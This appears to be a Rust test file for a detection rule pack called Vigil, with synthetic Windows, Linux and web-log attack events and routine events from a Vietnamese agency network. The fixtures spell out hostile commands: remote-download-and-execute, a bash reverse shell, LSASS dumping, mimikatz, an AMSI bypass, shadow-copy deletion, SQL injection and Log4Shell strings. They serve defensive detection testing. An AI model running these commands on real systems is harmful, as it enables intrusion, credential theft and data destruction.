//! Vigil's built-in rule pack (`rules/vigil`): every file compiles and carries the pack's
//! metadata, each rule fires on an attack event written for it and stays quiet on the
//! routine events of an agency network, the correlations fire on bursts, and (when the
//! shared corpus is present) the pack finds the recorded attacks without alerting on the
//! routine logs.

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::path::Path;

use serde_json::{json, Value as Json};
use vigil_detect::{builtin_rule_files, Detector, RuleLoad};
use vigil_event::Event;
use vigil_formats::json_object::from_json_object;
use vigil_formats::{read_path, Collected};
use vigil_sigma::correlation::{CorrelationEngine, CorrelationRule};
use vigil_sigma::Level;
use yaml_rust2::{Yaml, YamlLoader};

fn builtin_detector() -> Detector {
    let load = RuleLoad {
        builtin: true,
        ..RuleLoad::new(Vec::new())
    };
    Detector::new(
        load.load()
            .unwrap_or_else(|e| panic!("loading the built-in rules: {e:#}")),
    )
}

/// Ids of the rules that fire on `event`, in rule order.
fn fired(detector: &Detector, event: &Json) -> Vec<String> {
    let Json::Object(map) = event.clone() else {
        panic!("events are JSON objects")
    };
    let mut event = from_json_object(map);
    let mut worker = detector.worker();
    worker
        .detect(&mut event)
        .iter()
        .map(|&i| detector.rules().rule(i).meta.id.clone().unwrap_or_default())
        .collect()
}

// ---------------------------------------------------------------------------------------
// Event builders, in the flat shape Sigma rules (and Vigil's demo generator) use.

const TS: &str = "2025-03-14T02:30:00.000Z";

fn sysmon_process(image: &str, command_line: &str, parent: &str) -> Json {
    json!({
        "@timestamp": TS, "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
        "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": "SYT-PC017.minhson.local",
        "Image": image, "CommandLine": command_line, "ParentImage": parent,
        "User": "MINHSON\\nguyenvana", "IntegrityLevel": "Medium",
    })
}

/// The same process start as Security 4688 records it (NewProcessName / ParentProcessName).
fn security_process(image: &str, command_line: &str, parent: &str) -> Json {
    json!({
        "@timestamp": TS, "Channel": "Security", "EventID": 4688,
        "Provider_Name": "Microsoft-Windows-Security-Auditing", "Computer": "STC-FS01.minhson.local",
        "NewProcessName": image, "CommandLine": command_line, "ParentProcessName": parent,
    })
}

fn windows_event(channel: &str, provider: &str, event_id: i64, fields: Json) -> Json {
    let mut event = json!({
        "@timestamp": TS, "Channel": channel, "EventID": event_id, "Provider_Name": provider,
        "Computer": "STC-FS01.minhson.local",
    });
    if let (Json::Object(event), Json::Object(fields)) = (&mut event, fields) {
        event.extend(fields);
    }
    event
}

fn security(event_id: i64, fields: Json) -> Json {
    windows_event(
        "Security",
        "Microsoft-Windows-Security-Auditing",
        event_id,
        fields,
    )
}

fn system(event_id: i64, provider: &str, fields: Json) -> Json {
    windows_event("System", provider, event_id, fields)
}

fn registry_set(image: &str, target: &str, details: &str) -> Json {
    windows_event(
        "Microsoft-Windows-Sysmon/Operational",
        "Microsoft-Windows-Sysmon",
        13,
        json!({"EventType": "SetValue", "Image": image, "TargetObject": target, "Details": details}),
    )
}

fn process_access(source: &str, target: &str, access: &str) -> Json {
    windows_event(
        "Microsoft-Windows-Sysmon/Operational",
        "Microsoft-Windows-Sysmon",
        10,
        json!({"SourceImage": source, "TargetImage": target, "GrantedAccess": access, "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4"}),
    )
}

fn script_block(text: &str) -> Json {
    windows_event(
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell",
        4104,
        json!({"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "Path": ""}),
    )
}

fn auth(program: &str, message: &str) -> Json {
    json!({
        "@timestamp": TS, "logsource.product": "linux", "logsource.service": "auth",
        "host": "XTL-WEB01", "program": program, "pid": 4242, "message": message,
    })
}

fn auditd_execve(args: &[&str]) -> Json {
    let mut event =
        json!({"@timestamp": TS, "type": "EXECVE", "argc": args.len(), "host": "XTL-WEB01"});
    for (i, arg) in args.iter().enumerate() {
        event[format!("a{i}")] = json!(arg);
    }
    event
}

fn web(method: &str, stem: &str, query: &str, status: i64, user_agent: &str) -> Json {
    json!({
        "@timestamp": TS, "logsource.category": "webserver", "host": "VPUB-IIS01",
        "cs-host": "dichvucong.minhson.gov.vn", "c-ip": "203.0.113.77", "cs-method": method,
        "cs-uri-stem": stem, "cs-uri-query": query, "sc-status": status, "cs-user-agent": user_agent,
    })
}

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36";
const SYS32: &str = "C:\\Windows\\System32";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";

fn sys32(file: &str) -> String {
    format!("{SYS32}\\{file}")
}

/// One attack event for each single-event rule of the pack: (rule id, event).
fn attack_cases() -> Vec<(&'static str, Json)> {
    vec![
        // windows / process creation
        ("c51a5439-2789-4431-894e-7d8e03e527e2", sysmon_process(POWERSHELL, "powershell.exe -NoP -W Hidden -c calc", WORD)),
        ("4b2bf134-703e-40a7-847f-e3e287ce313d", sysmon_process(POWERSHELL, "powershell.exe -NoP -NonI -W Hidden -Enc JABXAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA", CMD)),
        ("675c6349-e49d-4482-bcce-acdec6e75177", sysmon_process(POWERSHELL, "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"", CMD)),
        ("f0718517-aa35-4239-8aca-774117a37532", sysmon_process(POWERSHELL, "powershell -nop -c \"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4')))\"", CMD)),
        ("cf76f55d-8f34-4bb9-895d-78349d92db01", sysmon_process(&sys32("certutil.exe"), "certutil.exe -urlcache -split -f http://203.0.113.5/a.dat C:\\Users\\Public\\a.exe", POWERSHELL)),
        ("79885360-9520-4849-826a-c517f4202a94", sysmon_process(&sys32("bitsadmin.exe"), "bitsadmin /transfer job /priority foreground http://203.0.113.5/b.dat C:\\Users\\Public\\b.dll", POWERSHELL)),
        ("89ab2b67-afd4-451c-b2ab-a37c5dea36a7", sysmon_process(&sys32("mshta.exe"), "mshta.exe https://203.0.113.5/run.hta", EXPLORER)),
        ("b0776eca-84c5-44fe-a0cf-c8c032b50797", sysmon_process(&sys32("regsvr32.exe"), "regsvr32 /s /n /u /i:http://203.0.113.5/x.sct scrobj.dll", CMD)),
        ("a1b19cbd-3ffe-404d-91fc-4395166311fe", sysmon_process(&sys32("rundll32.exe"), "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write()", CMD)),
        ("38e02d85-eaa5-40c5-94e9-1be19f0341be", sysmon_process(&sys32("rundll32.exe"), "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\ProgramData\\g.tmp full", CMD)),
        ("1b3adac2-f63e-4006-96f2-7e6ff063e009", sysmon_process("C:\\Windows\\Temp\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\fs01.dmp", CMD)),
        ("dec03e29-4ebf-44a9-b6aa-4b43762b2ad2", sysmon_process("C:\\Users\\Public\\m.exe", "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", CMD)),
        ("64a18300-96f8-4c38-ac58-5b6e96ae9ab3", sysmon_process(&sys32("reg.exe"), "reg save hklm\\sam C:\\ProgramData\\sam.save", CMD)),
        ("4a8a93a2-0453-4245-b784-9def199f6e28", sysmon_process(&sys32("ntdsutil.exe"), "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ifm\" q q", CMD)),
        ("d38b6f9c-e705-4f7b-a46e-6563206f8bca", sysmon_process(&sys32("tasklist.exe"), "tasklist /fi \"imagename eq lsass.exe\"", CMD)),
        ("59b44ff6-6d89-41d2-8855-4c8acd6370fa", sysmon_process(&sys32("net.exe"), "net group \"domain admins\" /domain", CMD)),
        ("4f38384f-9067-4b8f-a7d6-f71001682d01", sysmon_process(&sys32("nltest.exe"), "nltest /dclist:minhson.local", CMD)),
        ("bfbe37a6-0f9b-487c-83d7-5ee8ec8d143f", sysmon_process("C:\\ProgramData\\AdFind.exe", "AdFind.exe -f (objectcategory=computer)", CMD)),
        ("a08bc54f-5f48-40b6-9710-c36e6e522843", sysmon_process(&sys32("whoami.exe"), "whoami /all", CMD)),
        ("dd188579-498a-4970-aadf-1cc46127af01", sysmon_process(CMD, "cmd.exe /c whoami", "C:\\Windows\\System32\\inetsrv\\w3wp.exe")),
        ("fbfe6f57-78a9-4387-b35e-1fed878ca2d3", sysmon_process(&sys32("wbem\\WMIC.exe"), "wmic /node:10.20.1.15 process call create \"cmd.exe /c c:\\windows\\temp\\a.bat\"", CMD)),
        ("1ec38317-91dc-4a4f-8bf4-122a192ff3a4", sysmon_process(CMD, "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe")),
        ("9d9ad675-66fd-47a5-a598-6eda35cc1437", sysmon_process(CMD, "\"cmd.exe\" /c ipconfig", "C:\\Windows\\PSEXESVC.exe")),
        ("ae8a7ac2-892c-4987-ae4e-01f6c67c366c", sysmon_process(CMD, "C:\\Windows\\system32\\cmd.exe /C ipconfig", "C:\\Windows\\System32\\winrshost.exe")),
        ("46a91a75-54dd-49b4-9327-f3cd1214ceae", sysmon_process(&sys32("schtasks.exe"), "schtasks /create /sc minute /mo 30 /tn Upd /tr \"C:\\Users\\Public\\Libraries\\upd.exe\" /f", CMD)),
        ("744d4485-91e1-47fe-95c1-212000fe8ea9", sysmon_process(&sys32("reg.exe"), "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d \"C:\\Users\\Public\\upd.exe\" /f", CMD)),
        ("90817857-0280-48b8-8921-cdfd3c9532a9", sysmon_process(&sys32("net.exe"), "net user hotro.it Hotro@2025 /add", CMD)),
        ("8897e740-8ff9-4ff2-9ab5-75c6d898b4a4", sysmon_process(&sys32("wevtutil.exe"), "wevtutil cl Security", CMD)),
        ("167d33fb-3f35-463f-9d53-65ddb274344c", sysmon_process(&sys32("vssadmin.exe"), "vssadmin.exe delete shadows /all /quiet", CMD)),
        ("6f8688c6-98a7-4376-a4b8-00409f3acf99", sysmon_process(&sys32("bcdedit.exe"), "bcdedit /set {default} recoveryenabled no", CMD)),
        ("2a1fb0b6-78b2-4cdd-a6f1-296af5ffbc4a", sysmon_process(CMD, "cmd.exe /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no & wevtutil cl system", "C:\\ProgramData\\x.exe")),
        ("339244ca-47fd-4dac-b267-85175047c11f", sysmon_process(POWERSHELL, "powershell -Command \"Set-MpPreference -DisableRealtimeMonitoring $true\"", CMD)),
        ("22389264-6cdd-408d-9fa9-dbb0adcbd5a5", sysmon_process(&sys32("reg.exe"), "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", CMD)),
        ("6cbc2cb7-7453-49e3-a397-6a10dbc1ecd5", sysmon_process(&sys32("wscript.exe"), "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\vana\\Downloads\\Cong_van_khan.js\"", EXPLORER)),
        ("61f09444-a343-4c7d-b357-3a7840e3f29f", sysmon_process(&sys32("icacls.exe"), "icacls \"D:\\*\" /grant Everyone:F /T /C /Q", CMD)),
        // windows / other categories and channels
        ("ff6b0ceb-0c3b-4f6b-b890-61beea4f5e18", process_access("C:\\ProgramData\\Intel\\dump.exe", "C:\\Windows\\system32\\lsass.exe", "0x1fffff")),
        ("639bd4d1-7a96-4eaa-b171-3a76545d4d92", registry_set("C:\\Users\\Public\\upd.exe", "HKU\\S-1-5-21-1-2-3-1105\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd", "C:\\Users\\Public\\upd.exe")),
        ("ba942257-48c3-4ed1-8215-f46c743e1c69", registry_set(&sys32("reg.exe"), "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "C:\\windows\\system32\\cmd.exe")),
        ("93dc3715-0d3e-43a1-a7db-9a6a90128ac1", registry_set(POWERSHELL, "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\x", "DWORD (0x00000000)")),
        ("0edf406b-77bb-45cd-bccc-b5384ea409ab", registry_set(&sys32("reg.exe"), "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "DWORD (0x00000000)")),
        ("1d9af069-a5ac-406d-a3da-d9ca4f2f812e", script_block("Set-MpPreference -DisableRealtimeMonitoring $true")),
        ("eb82e2c9-8146-4a54-9e8d-6bd81823ffbc", script_block("$w=New-Object Net.WebClient;IEX $w.DownloadString('http://203.0.113.5/ks.ps1')")),
        ("09c17d41-7a68-4243-8fdb-ea2e3ff92a47", script_block("Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'")),
        ("329cabcc-1da9-41a1-aefc-35a2e22b95b9", script_block("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)")),
        ("06831de2-6ead-4341-b408-23fe716c00ec", windows_event("Security", "Microsoft-Windows-Eventlog", 1102, json!({"SubjectUserName": "quantri"}))),
        ("d41bbcbf-fd23-40b2-acdc-684596b78d08", system(104, "Microsoft-Windows-Eventlog", json!({"SubjectUserName": "quantri", "LogName": "System"}))),
        ("702c16c1-d7fe-46fe-b722-57b0e3ec247d", security(4720, json!({"SubjectUserName": "quantri", "SubjectUserSid": "S-1-5-21-9-9-9-1104", "TargetUserName": "hotro.it", "TargetSid": "S-1-5-21-1-2-3-1003"}))),
        ("06e00d08-a4b1-454f-9b4d-8526018f2eed", security(4732, json!({"SubjectUserSid": "S-1-5-21-9-9-9-1104", "MemberSid": "S-1-5-21-1-2-3-1003", "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544"}))),
        ("f2e8fa8d-9332-4af4-ad67-96f68e776a4e", security(4698, json!({"TaskName": "\\EdgeUpdateCore", "TaskContent": "<Exec><Command>powershell.exe</Command><Arguments>-w hidden -f C:\\Users\\Public\\u.ps1</Arguments></Exec>"}))),
        ("8f5fcdb1-e070-4052-9972-6efb13cb3d34", security(4697, json!({"ServiceName": "BTOBTO", "ServiceFileName": "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"}))),
        ("59ded90b-a1b2-4121-913b-6c0c1ed0ccf7", security(4662, json!({"SubjectUserName": "vana", "SubjectUserSid": "S-1-5-21-9-9-9-1201", "AccessMask": "0x100", "Properties": "%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"}))),
        ("7c5e4a21-0d6b-46d1-bb2c-4a539f8927be", security(4769, json!({"TargetUserName": "vana@MINHSON.LOCAL", "ServiceName": "svc_sql", "TicketEncryptionType": "0x17", "Status": "0x0", "IpAddress": "::ffff:10.20.3.21"}))),
        ("3227ec71-0719-4af5-84d2-7f074588df7b", windows_event("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116, json!({"Threat Name": "HackTool:Win64/Mikatz!dha", "Path": "file:_C:\\ProgramData\\Intel\\m.exe", "Severity Name": "High"}))),
        ("5ef0b59b-6385-4412-a95a-e92c4301eb4b", windows_event("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5001, json!({"Product Name": "Microsoft Defender Antivirus"}))),
        ("5132a082-aa16-4376-a5d4-261168bb2959", registry_set(&sys32("reg.exe"), "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000001)")),
        ("3358ef49-87bc-4cd8-91bc-0b7c6516feb3", registry_set(POWERSHELL, "HKU\\S-1-5-21-1-2-3-1105_Classes\\ms-settings\\shell\\open\\command\\(Default)", "C:\\Users\\Public\\upd.exe")),
        ("013fd8af-9210-494d-a65d-fb7a3b25f984", sysmon_process(&sys32("reg.exe"), "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f", CMD)),
        ("425b8e98-be37-49f9-95e9-5595520250b5", system(7045, "Service Control Manager", json!({"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}))),
        ("5d4708c0-5de2-4454-9c8d-a457638c33d8", system(7045, "Service Control Manager", json!({"ServiceName": "hgabms", "ImagePath": "cmd.exe /c echo hgabms > \\\\.\\pipe\\hgabms"}))),
        // linux
        ("d807040a-3fe1-4d22-8cfa-6bfc07afc818", auth("sshd", "Failed password for invalid user oracle from 192.0.2.44 port 40022 ssh2")),
        ("0dcf6c05-c210-4eb9-8fe1-baff9ff46822", auth("sshd", "Accepted password for root from 192.0.2.44 port 40022 ssh2")),
        ("1da28a15-c44a-40bd-aeea-4dc8e93b8478", auth("sudo", "quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/bin/bash")),
        ("6db64289-512d-4771-a018-92e3e89091d0", auth("sudo", "quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/bin/bash -c cd /tmp; wget http://192.0.2.44/x -O .k; chmod +x .k; ./.k")),
        ("dea60c03-3a44-4013-b25a-7b84c27aa2bd", auth("useradd", "new user: name=sysadmin, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0")),
        ("060582ad-b304-4221-898e-603191a15335", auth("useradd", "new user: name=hotro, UID=1002, GID=1002, home=/home/hotro, shell=/bin/bash, from=/dev/pts/0")),
        ("dfc53474-8901-4e44-9753-0097ccb56ccd", auth("usermod", "add 'hotro' to group 'sudo'")),
        ("827345fd-0912-4654-9196-28afa4086fa6", auditd_execve(&["bash", "-c", "bash -i >& /dev/tcp/192.0.2.44/4444 0>&1"])),
        ("63d9dca7-ea19-4dec-b29b-5e524d2b7a0b", auditd_execve(&["rm", "-f", "/var/log/auth.log"])),
        // web
        ("61f86a3e-e66e-4036-ad64-116b7fff1821", web("GET", "/tra-cuu-ho-so", "ma_ho_so=H39%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-", 200, BROWSER)),
        ("a9f3ead6-4e71-4f56-809c-9ae3f825fa9e", web("GET", "/tai-lieu/tai-ve.aspx", "tep=../../../../windows/win.ini", 500, BROWSER)),
        ("d84724ec-c6be-46b4-97dd-ea8c6c74df41", web("GET", "/uploads/tep-dinh-kem/hd.aspx", "cmd=whoami", 200, BROWSER)),
        ("e79787a1-05c5-4f94-b8d2-9ee16290024c", web("GET", "/", "-", 200, "sqlmap/1.8.4#stable (https://sqlmap.org)")),
        ("92703eaf-2b09-4ae4-91f8-05a1e6e71b9a", web("GET", "/manager/html", "-", 401, BROWSER)),
        ("240b4de7-4a17-4390-910a-b70465a8643f", web("POST", "/manager/html/upload", "org.apache.catalina.filters.CSRF_NONCE=0A1B", 200, BROWSER)),
        ("96ea8db5-1190-4e5d-925d-641df868845f", web("GET", "/erp/conn.aspx", "proxy&port=3389&ip=127.0.0.1", 200, "-")),
        ("1d1345ab-9069-422b-a026-22cd1c4b910b", web("GET", "/", "q=${jndi:ldap://192.0.2.44:1389/a}", 200, BROWSER)),
        ("79747fe3-4711-4013-9718-e6a52165f912", web("GET", "/.env", "-", 200, BROWSER)),
    ]
}

/// Routine events of an agency network (the demo's background and ordinary admin work).
fn routine_events() -> Vec<Json> {
    vec![
        sysmon_process("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"D:\\TaiLieu\\2025\\DuToan_NganSach_2025.xlsx\"", EXPLORER),
        sysmon_process(WORD, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\vana\\Downloads\\Tờ trình số 12.docx\" /o \"\"", EXPLORER),
        sysmon_process("C:\\Windows\\System32\\Robocopy.exe", "robocopy D:\\DuLieu \\\\VPUB-FS01\\SaoLuu\\STC /MIR /R:2 /W:5 /NP /LOG:D:\\Logs\\saoluu.log", CMD),
        sysmon_process(CMD, "C:\\Windows\\system32\\cmd.exe /c D:\\Scripts\\saoluu_hangdem.bat", "C:\\Windows\\system32\\taskhostw.exe"),
        sysmon_process(POWERSHELL, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", EXPLORER),
        sysmon_process("C:\\Windows\\system32\\mstsc.exe", "\"C:\\Windows\\system32\\mstsc.exe\" /v:VPUB-FS01", EXPLORER),
        sysmon_process("C:\\Windows\\System32\\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_ \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\"", "C:\\Windows\\system32\\svchost.exe"),
        sysmon_process("C:\\Windows\\SysWOW64\\schtasks.exe", "C:\\Windows\\SysWOW64\\schtasks.exe -create -tn Microsoft\\Windows\\rempl\\shell -xml rempl.xml -F", "C:\\Windows\\System32\\msiexec.exe"),
        sysmon_process(&sys32("ipconfig.exe"), "C:\\Windows\\system32\\ipconfig  /renew", CMD),
        security_process(&sys32("whoami.exe"), "whoami", CMD),
        process_access("C:\\Windows\\system32\\svchost.exe", "C:\\Windows\\system32\\lsass.exe", "0x1000"),
        process_access("C:\\Windows\\system32\\wbem\\wmiprvse.exe", "C:\\Windows\\system32\\lsass.exe", "0x1410"),
        registry_set("C:\\Users\\vana\\AppData\\Local\\Programs\\Zalo\\Zalo.exe", "HKU\\S-1-5-21-1-2-3-1105\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Zalo", "\"C:\\Users\\vana\\AppData\\Local\\Programs\\Zalo\\Zalo.exe\" --autostart"),
        script_block("Get-Service -Name W3SVC, WAS, LanmanServer | Select-Object Name, Status"),
        script_block("Get-ChildItem -Path D:\\SaoLuu -Filter *.bak | Sort-Object LastWriteTime -Descending | Select-Object -First 5"),
        security(4625, json!({"TargetUserName": "vana", "LogonType": 7, "IpAddress": "127.0.0.1", "SubStatus": "0xc000006a"})),
        security(4624, json!({"TargetUserName": "quantri", "LogonType": 10, "IpAddress": "10.20.3.21"})),
        security(4720, json!({"SubjectUserSid": "S-1-5-18", "TargetUserName": "IEUser", "TargetSid": "S-1-5-21-1-2-3-1000"})),
        system(7045, "Service Control Manager", json!({"ServiceName": "Google Update Service (gupdate)", "ImagePath": "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc"})),
        system(7045, "Service Control Manager", json!({"ServiceName": "MpKsl34afefd5", "ImagePath": "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{9F21B1C2}\\MpKsl34afefd5.sys"})),
        system(19, "Microsoft-Windows-WindowsUpdateClient", json!({"updateTitle": "Security Intelligence Update for Microsoft Defender Antivirus - KB2267602"})),
        auth("sshd", "Accepted publickey for vanhanh from 10.20.5.11 port 51514 ssh2"),
        auth("sudo", "vanhanh : TTY=pts/0 ; PWD=/home/vanhanh ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx"),
        auth("sudo", "vanhanh : TTY=pts/0 ; PWD=/home/vanhanh ; USER=root ; COMMAND=/usr/bin/apt-get update"),
        auth("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
        web("GET", "/tim-kiem", "q=c%E1%BA%A5p+%C4%91%E1%BB%95i+gi%E1%BA%A5y+ph%C3%A9p+l%C3%A1i+xe", 200, BROWSER),
        web("GET", "/van-ban-phap-luat", "loai=quyet-dinh&nam=2025", 200, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        web("POST", "/dang-nhap", "-", 302, BROWSER),
        web("GET", "/images/logo-minhson.png", "-", 304, BROWSER),
        web("GET", "/tra-cuu-ho-so", "ma_ho_so=H39.25-250312-0042", 200, BROWSER),
        web("GET", "/thu-tuc/1.001612.000.00.00.H39", "-", 404, BROWSER),
    ]
}

#[test]
fn every_builtin_rule_compiles() {
    let detector = builtin_detector();
    let rules = detector.rules();
    let unsupported: Vec<String> = rules
        .unsupported
        .iter()
        .map(|u| format!("{}: {}", u.origin, u.reason))
        .collect();
    assert!(
        unsupported.is_empty(),
        "unsupported built-in rules:\n{}",
        unsupported.join("\n")
    );
    assert!(
        rules.rules().len() >= 60,
        "only {} detection rules in the pack",
        rules.rules().len()
    );
    assert!(
        rules.correlations.len() >= 8,
        "only {} correlations in the pack",
        rules.correlations.len()
    );
}

fn text<'a>(doc: &'a Yaml, key: &str) -> &'a str {
    doc[key].as_str().unwrap_or("")
}

fn is_uuid_v4(id: &str) -> bool {
    let groups: Vec<&str> = id.split('-').collect();
    let lengths_ok = groups.iter().map(|g| g.len()).eq([8, 4, 4, 4, 12]);
    lengths_ok
        && id.chars().all(|c| c == '-' || c.is_ascii_hexdigit())
        && groups[2].starts_with('4')
}

#[test]
fn every_rule_file_carries_the_pack_metadata() {
    let files = builtin_rule_files();
    assert!(!files.is_empty(), "no built-in rule files embedded");
    let mut ids = HashSet::new();
    let mut problems = Vec::new();
    for (origin, source) in &files {
        let docs = YamlLoader::load_from_str(source).unwrap_or_else(|e| panic!("{origin}: {e}"));
        for (index, doc) in docs.iter().enumerate() {
            let id = text(doc, "id");
            if !is_uuid_v4(id) {
                problems.push(format!(
                    "{origin} document {index}: id `{id}` is not a UUIDv4"
                ));
            }
            if !ids.insert(id.to_owned()) {
                problems.push(format!("{origin}: id {id} used twice"));
            }
        }
        // The first document is the rule an analyst sees (for correlations, the outer one).
        let rule = &docs[0];
        for key in ["title", "description", "title_vi", "guidance_vi", "level"] {
            if text(rule, key).trim().is_empty() {
                problems.push(format!("{origin}: `{key}` missing"));
            }
        }
        if text(rule, "author") != "Vigil project" {
            problems.push(format!("{origin}: author must be `Vigil project`"));
        }
        if !matches!(text(rule, "status"), "stable" | "test") {
            problems.push(format!("{origin}: status must be stable or test"));
        }
        if rule["date"].as_str().is_none() {
            problems.push(format!("{origin}: date missing"));
        }
        for key in ["references", "falsepositives", "tags"] {
            if rule[key].as_vec().is_none_or(|v| v.is_empty()) {
                problems.push(format!("{origin}: `{key}` list missing"));
            }
        }
        let tags: Vec<&str> = rule["tags"]
            .as_vec()
            .map(|v| v.iter().filter_map(Yaml::as_str).collect())
            .unwrap_or_default();
        let technique = tags.iter().any(|t| {
            t.strip_prefix("attack.t")
                .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()))
        });
        let tactic = tags.iter().any(|t| {
            t.strip_prefix("attack.").is_some_and(|rest| {
                rest.contains('-') || rest.chars().all(|c| c.is_ascii_lowercase())
            })
        });
        if !technique || !tactic {
            problems.push(format!(
                "{origin}: tags need an attack.tNNNN technique and a tactic"
            ));
        }
        // Vietnamese text with its diacritics, not ASCII transliteration.
        for key in ["title_vi", "guidance_vi"] {
            if text(rule, key).is_ascii() {
                problems.push(format!("{origin}: `{key}` has no Vietnamese diacritics"));
            }
        }
    }
    assert!(
        problems.is_empty(),
        "rule metadata problems:\n{}",
        problems.join("\n")
    );
}

#[test]
fn each_rule_fires_on_its_attack_event() {
    let detector = builtin_detector();
    let mut missed = Vec::new();
    for (rule_id, event) in attack_cases() {
        assert!(detector.has_rule(rule_id), "no built-in rule {rule_id}");
        if !fired(&detector, &event).iter().any(|id| id == rule_id) {
            missed.push(format!("{rule_id} did not fire on {event}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn every_single_event_rule_has_an_attack_case() {
    let detector = builtin_detector();
    let engine = correlation_engine(&detector);
    let covered: HashSet<&str> = attack_cases().iter().map(|(id, _)| *id).collect();
    let uncovered: Vec<String> = detector
        .rules()
        .rules()
        .iter()
        .filter_map(|r| r.meta.id.as_deref())
        .filter(|id| engine.stands_alone(id) && !covered.contains(id))
        .map(str::to_owned)
        .collect();
    assert!(
        uncovered.is_empty(),
        "rules without an attack case: {uncovered:?}"
    );
}

#[test]
fn process_rules_also_fire_on_security_4688() {
    let detector = builtin_detector();
    let event = security_process(
        &sys32("vssadmin.exe"),
        "vssadmin.exe  delete shadows /all /quiet",
        CMD,
    );
    assert!(fired(&detector, &event)
        .iter()
        .any(|id| id == "167d33fb-3f35-463f-9d53-65ddb274344c"));
}

#[test]
fn routine_events_raise_nothing() {
    let detector = builtin_detector();
    // Building blocks of correlations match routine events on purpose (one failed logon,
    // one 404); only the rules that alert on their own must stay quiet.
    let engine = correlation_engine(&detector);
    let noisy: Vec<String> = routine_events()
        .iter()
        .filter_map(|event| {
            let ids: Vec<String> = fired(&detector, event)
                .into_iter()
                .filter(|id| engine.stands_alone(id))
                .collect();
            (!ids.is_empty()).then(|| format!("{ids:?} on {event}"))
        })
        .collect();
    assert!(
        noisy.is_empty(),
        "rules fired on routine events:\n{}",
        noisy.join("\n")
    );
}

// ---------------------------------------------------------------------------------------
// Correlations.

fn correlation_engine(detector: &Detector) -> CorrelationEngine {
    let rules = detector.rules();
    let correlations: Vec<CorrelationRule> = rules
        .correlations
        .iter()
        .map(|c| CorrelationRule::from_yaml(&c.doc).unwrap_or_else(|e| panic!("{}: {e}", c.origin)))
        .collect();
    let known: Vec<(&str, Option<&str>)> = rules
        .rules()
